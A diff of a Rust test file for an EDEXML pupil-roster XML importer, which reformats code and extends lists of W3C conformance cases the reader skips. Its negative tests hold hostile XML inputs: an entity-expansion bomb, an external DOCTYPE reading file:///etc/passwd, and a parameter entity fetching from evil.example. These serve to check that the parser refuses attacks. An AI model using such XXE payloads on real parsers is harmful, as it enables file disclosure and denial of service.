@@ -16,7 +16,8 @@ const PUPIL: &str = "<leerling key=\"LL-1\"><achternaam>Canary</achternaam></lee
 
 /// How many pupils it brought, or that it was refused.
 fn read(bytes: Vec<u8>) -> Option<usize> {
-    let options = Options { format: Some(Format::Edexml), delta: false, staff: false, key: Kind::PUPIL_NUMBER };
+    let options =
+        Options { format: Some(Format::Edexml), delta: false, staff: false, key: Kind::PUPIL_NUMBER };
     let now = Timestamp::from_millis(1_780_000_000_000);
     match bring(Source::File(Box::new(Cursor::new(bytes))), &options, now, &mut |_| {}) {
         Ok(import) => Some(match import.brought {
@@ -60,13 +61,19 @@ fn suite() -> Vec<(String, Vec<u8>, bool)> {
 
 fn own() -> Vec<(&'static str, Vec<u8>)> {
     let good = format!("<EDEX><leerlingen>{PUPIL}</leerlingen></EDEX>");
-    let entities = format!("<!DOCTYPE EDEX [<!ENTITY a \"aaaaaaaaaa\">{}]>", (0..12).map(|n| format!("<!ENTITY l{n} \"{}\">", "&a;".repeat(10))).collect::<String>());
+    let entities = format!(
+        "<!DOCTYPE EDEX [<!ENTITY a \"aaaaaaaaaa\">{}]>",
+        (0..12).map(|n| format!("<!ENTITY l{n} \"{}\">", "&a;".repeat(10))).collect::<String>()
+    );
     vec![
         ("laughs", format!("{entities}{good}").into_bytes()),
         ("external", format!("<!DOCTYPE EDEX SYSTEM \"file:///etc/passwd\">{good}").into_bytes()),
         ("lower", format!("<!doctype EDEX>{good}").into_bytes()),
         ("behind a comment", format!("<!-- x --><!DOCTYPE EDEX>{good}").into_bytes()),
-        ("parameter entity", format!("<!DOCTYPE EDEX [<!ENTITY % x SYSTEM \"http://evil.example/\">%x;]>{good}").into_bytes()),
+        (
+            "parameter entity",
+            format!("<!DOCTYPE EDEX [<!ENTITY % x SYSTEM \"http://evil.example/\">%x;]>{good}").into_bytes(),
+        ),
         ("attlist", format!("<!DOCTYPE EDEX [<!ATTLIST leerling key CDATA \"LL-9\">]>{good}").into_bytes()),
         ("entity", good.replace("Canary", "&xxe;").into_bytes()),
         ("entity in an attribute", good.replace("LL-1", "&xxe;").into_bytes()),
@@ -78,7 +85,14 @@ fn own() -> Vec<(&'static str, Vec<u8>)> {
         ("attribute twice", good.replace("key=\"LL-1\"", "key=\"LL-1\" key=\"LL-2\"").into_bytes()),
         ("deep", format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000)).into_bytes()),
         ("long attribute", good.replace("LL-1", &"x".repeat(3 << 20)).into_bytes()),
-        ("invalid UTF-8", good.replace("Canary", "\u{fffd}").into_bytes().iter().map(|b| if *b == 0xef { 0xff } else { *b }).collect()),
+        (
+            "invalid UTF-8",
+            good.replace("Canary", "\u{fffd}")
+                .into_bytes()
+                .iter()
+                .map(|b| if *b == 0xef { 0xff } else { *b })
+                .collect(),
+        ),
         ("UTF-16", good.encode_utf16().flat_map(u16::to_le_bytes).collect()),
         ("UTF-7", format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{good}").into_bytes()),
         ("nothing", Vec::new()),
@@ -92,7 +106,9 @@ fn documents_of_the_w3c_as_rosters() {
     for (name, bytes) in own() {
         let begun = Instant::now();
         let said = read(bytes);
-        tally.judge(said.is_none() && begun.elapsed() < Duration::from_secs(10), || format!("own {name}: {said:?}"));
+        tally.judge(said.is_none() && begun.elapsed() < Duration::from_secs(10), || {
+            format!("own {name}: {said:?}")
+        });
     }
     for (name, bytes, not_wf) in some(suite(), 700) {
         let said = read(bytes.clone());
@@ -105,23 +121,85 @@ fn documents_of_the_w3c_as_rosters() {
             match (read(around(&bytes)), unchecked(&name)) {
                 (None, _) => tally.pass(),
                 (Some(_), Some(reason)) => tally.except(reason, name),
-                (Some(_), None) => tally.fail(format!("{name}: imported with it: {}", String::from_utf8_lossy(&bytes))),
+                (Some(_), None) => {
+                    tally.fail(format!("{name}: imported with it: {}", String::from_utf8_lossy(&bytes)))
+                }
             }
         }
     }
     tally.done(&MARKUP);
 }
 
-/// Rules of XML that the reader does not check, and why that is right.
+/// Rules of XML that the reader does not check, and why that is right: the file's name, without its ending.
 fn unchecked(name: &str) -> Option<&'static str> {
-    let of = |parts: &[&str]| parts.iter().any(|part| name.contains(part));
-    if of(&["sa/022", "sa/171", "sa/174", "sa/025", "sa/026", "p05fail", "p10fail", "p16fail", "sa/002", "sa/023", "sa/024", "sa/148", "sa/172", "sa/173"]) {
-        return Some("a rule about a name, an attribute, a comment, an instruction or `]]>` in what the reader passes over: it says of nobody who they are");
+    const PASSED_OVER: &[&str] = &[
+        "oasis/p04fail1",
+        "oasis/p04fail2",
+        "oasis/p04fail3",
+        "oasis/p05fail1",
+        "oasis/p05fail2",
+        "oasis/p05fail3",
+        "oasis/p05fail4",
+        "oasis/p05fail5",
+        "oasis/p10fail1",
+        "oasis/p16fail2",
+        "oasis/p16fail3",
+        "sa/150",
+        "sa/151",
+        "sa/154",
+        "sa/155",
+        "sa/156",
+        "sa/157",
+        "oasis/p14fail3",
+        "oasis/p16fail1",
+        "oasis/p23fail1",
+        "oasis/p40fail1",
+        "oasis/p40fail2",
+        "oasis/p44fail4",
+        "sa/002",
+        "sa/003",
+        "sa/014",
+        "sa/023",
+        "sa/024",
+        "sa/025",
+        "sa/026",
+        "sa/029",
+        "sa/171",
+        "sa/172",
+        "sa/173",
+        "sa/174",
+    ];
+    const BEGIN_AND_END: &[&str] = &[
+        "oasis/p01fail1",
+        "oasis/p01fail2",
+        "oasis/p01fail3",
+        "oasis/p18fail3",
+        "oasis/p22fail1",
+        "oasis/p39fail3",
+        "sa/036",
+        "sa/037",
+        "sa/040",
+        "sa/041",
+        "sa/043",
+        "sa/044",
+        "sa/048",
+        "sa/050",
+        "sa/051",
+        "sa/052",
+        "sa/105",
+        "sa/106",
+        "sa/147",
+        "sa/148",
+    ];
+    let of = |list: &[&str]| list.iter().any(|stem| name.ends_with(&format!("{stem}.xml")));
+    if of(PASSED_OVER) {
+        return Some(
+            "how a name or an instruction is spelt, white space between attributes, `<` in an attribute, `]]>` in text, U+FFFF in a comment: in what the \
+             reader passes over; nobody is described there",
+        );
     }
-    if of(&["sa/043", "sa/048", "sa/106"]) {
-        return Some("text behind its root, which is no text behind a root once the test puts it inside another");
-    }
-    None
+    of(BEGIN_AND_END)
+        .then_some("it is about how a document begins and ends, and the test puts it inside another")
 }
 
 /// Where the root element begins, roughly: behind the last `]>` or the DOCTYPE's `>`.
